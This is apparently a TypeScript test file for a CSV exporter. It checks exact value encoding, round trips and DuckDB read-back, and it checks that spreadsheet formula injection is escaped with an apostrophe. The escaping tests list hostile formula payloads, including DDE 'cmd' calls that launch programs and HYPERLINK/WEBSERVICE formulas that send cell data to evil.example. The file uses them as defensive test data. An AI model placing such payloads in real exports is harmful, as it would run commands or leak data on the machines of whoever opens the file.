import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { DuckDBInstance } from '@duckdb/node-api'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { Field } from '../../model/result.ts'
import { toCsv } from './write-csv.ts'
import { withoutFormula } from './formulas.ts'
import { field, storedRows, textOf } from '../../../testing/results/stored-result.ts'

const csv = async (fields: Field[], rows: string[][], options: { isRaw?: boolean } = {}) =>
  textOf(toCsv(await storedRows(fields, rows), options))

test('keeps every value exact and distinguishes NULL from empty text', async () => {
  const fields = [
    field('big', 'integer'),
    field('price', 'decimal'),
    field('said, "aloud"', 'string'),
    field('at', 'timestamp'),
    field('ok', 'boolean'),
    field('ratio', 'number'),
    field('more', 'json'),
  ]
  const rows = [
    ['"9007199254740993"', '"12.50"', '"a,b\\r\\nc \\"q\\" ü\\u0007"', '"2026-01-05T09:00:00.000Z"', 'true', '1e+300', '{"a":12345678901234567890, "b":[1.10,"]"]}'],
    ['-1', '"-0.05"', '""', 'null', 'false', '"NaN"', 'null'],
    ['null', 'null', 'null', 'null', 'null', 'null', ' "x" '],
  ]
  expect(await csv(fields, rows)).toBe(
    [
      'big,price,"said, ""aloud""",at,ok,ratio,more',
      '9007199254740993,12.50,"a,b\r\nc ""q"" ü\u0007",2026-01-05T09:00:00.000Z,true,1e+300,"{""a"":12345678901234567890, ""b"":[1.10,""]""]}"',
      '-1,-0.05,"",,false,NaN,',
      ',,,,,,"""x"""',
      '',
    ].join('\r\n'),
  )
})

test('a result without rows has a header', async () => {
  expect(await csv([field('a', 'string'), field('', 'integer')], [])).toBe('a,""\r\n')
})

/** Undoes the escape, as a reader would that knows about it. */
const withFormula = (text: string) =>
  text.startsWith("'") && withoutFormula(text.slice(1)) === text ? text.slice(1) : text

describe('a cell that a spreadsheet would execute', () => {
  const attacks = [
    '=1+1',
    `=cmd|' /C calc'!A0`,
    `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
    '=WEBSERVICE("http://evil.example")',
    `+cmd|' /C notepad'!'A1'`,
    '-1+1',
    '-2+3+cmd|x',
    '@SUM(1+1)*cmd|x',
    '+49 170 1=2',
    '- a remark',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\tx',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
    `'=1+1`,
    `''@x`,
    '"=1+1"',
  ]
  const harmless = ['', 'a=b', '-5', '+49170123', '-1.5e-7', '1-1', `'tis`, "'", 'x\ty', 'mail@example.com', '名前', '|=x']

  test('is escaped with an apostrophe', async () => {
    for (const attack of attacks.filter((text) => !text.startsWith('"'))) {
      const [, line] = (await csv([field('a', 'string')], [[JSON.stringify(attack)]])).split(/^a\r\n/)
      expect(line, attack).toMatch(/^"?'/)
      expect(parseCsv(`a\r\n${line}`)).toEqual([['a'], [`'${attack}`]])
    }
  })

  test('is unchanged if it is not a formula, or in raw mode', async () => {
    const rows = (texts: string[]) => texts.map((text) => [JSON.stringify(text)])
    const cells = async (texts: string[], options: { isRaw?: boolean }) =>
      parseCsv(await csv([field('a', 'string')], rows(texts), options)).slice(1).flat()
    expect(await cells(harmless, {})).toEqual(harmless)
    expect(await cells([...attacks, ...harmless], { isRaw: true })).toEqual([...attacks, ...harmless])
  })

  test('is escaped in a column name too', async () => {
    expect(await csv([field('=1+1', 'integer'), field('-5', 'integer')], [])).toBe(`'=1+1,-5\r\n`)
    expect(await csv([field('=1+1', 'integer')], [], { isRaw: true })).toBe('=1+1\r\n')
  })

  test('is never a number, date or JSON', async () => {
    const fields = [field('a', 'integer'), field('b', 'decimal'), field('c', 'number'), field('d', 'date'), field('e', 'json')]
    const rows = [['-1', '"-0.5"', '"-Infinity"', '"-0044-03-15"', '-1'], ['1', '"0.5"', '1', '"+012026-01-01"', '{"a":"=1+1"}']]
    expect((await csv(fields, rows)).split('\r\n').slice(1, 3)).toEqual([
      '-1,-0.5,-Infinity,-0044-03-15,-1',
      '1,0.5,1,+012026-01-01,"{""a"":""=1+1""}"',
    ])
  })

  test('can be distinguished from stored apostrophes and restored', () => {
    const texts = fc.string({ unit: fc.constantFrom("'", '=', '-', '@', '5', ' ', '\t', '\n', 'a', '＝') })
    fc.assert(
      fc.property(texts, (text) => {
        expect(withFormula(withoutFormula(text))).toBe(text)
        expect(withoutFormula(text)).not.toMatch(/^\s*[=@＝]/)
      }),
      { seed: 20260105, numRuns: 1000 },
    )
  })
})

test('arbitrary text survives a round trip', async () => {
  const texts = fc.string({ unit: fc.constantFrom('a', '"', '\\', ',', '\r', '\n', '[', ']', '{', '}', ' ', 'é', '😀', '=') })
  const cells = fc.array(fc.tuple(texts, texts), { minLength: 1, maxLength: 8 })
  await fc.assert(
    fc.asyncProperty(cells, async (rows) => {
      const text = await csv(
        [field('a', 'string'), field('b', 'string')],
        rows.map((row) => row.map((value) => JSON.stringify(value))),
      )
      expect(parseCsv(text).slice(1).map((row) => row.map(withFormula))).toEqual(rows)
    }),
    { seed: 20260105, numRuns: 100 },
  )
})

test('DuckDB reads back what was written', async () => {
  const folder = await mkdtemp(path.join(tmpdir(), 'querypost-csv-'))
  const fields = [field('big', 'integer'), field('price', 'decimal'), field('text', 'string'), field('at', 'timestamp')]
  const rows = [
    ['"9007199254740993"', '"12.50"', '"a,b\\r\\nc \\"q\\" ü"', '"2026-01-05T09:00:00.000Z"'],
    ['-1', 'null', '"=1+1"', 'null'],
  ]
  const file = path.join(folder, 'out.csv')
  await writeFile(file, await csv(fields, rows))
  const connection = await (await DuckDBInstance.create(':memory:')).connect()
  const read = await connection.runAndReadAll(`select big, price, text, epoch_ms("at") from read_csv('${file}')`)
  expect(read.getRowsJson()).toEqual([
    ['9007199254740993', 12.5, 'a,b\r\nc "q" ü', '1767603600000'],
    ['-1', null, "'=1+1", null],
  ])
  await rm(folder, { recursive: true })
})

/** A minimal RFC 4180 reader for text only. An empty cell is empty text. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (let at = 0; at < text.length; ) {
    let cell = ''
    if (text[at] === '"') {
      for (at++; text[at] !== '"' || text[at + 1] === '"'; at++) {
        cell += text[at]
        if (text[at] === '"') at++
      }
      at++
    } else while (text[at] !== ',' && text[at] !== '\r') cell += text[at++]
    row.push(cell)
    if (text[at] === ',') at++
    else {
      if (text.slice(at, at + 2) !== '\r\n') throw new Error(`No end of line at ${at}.`)
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}
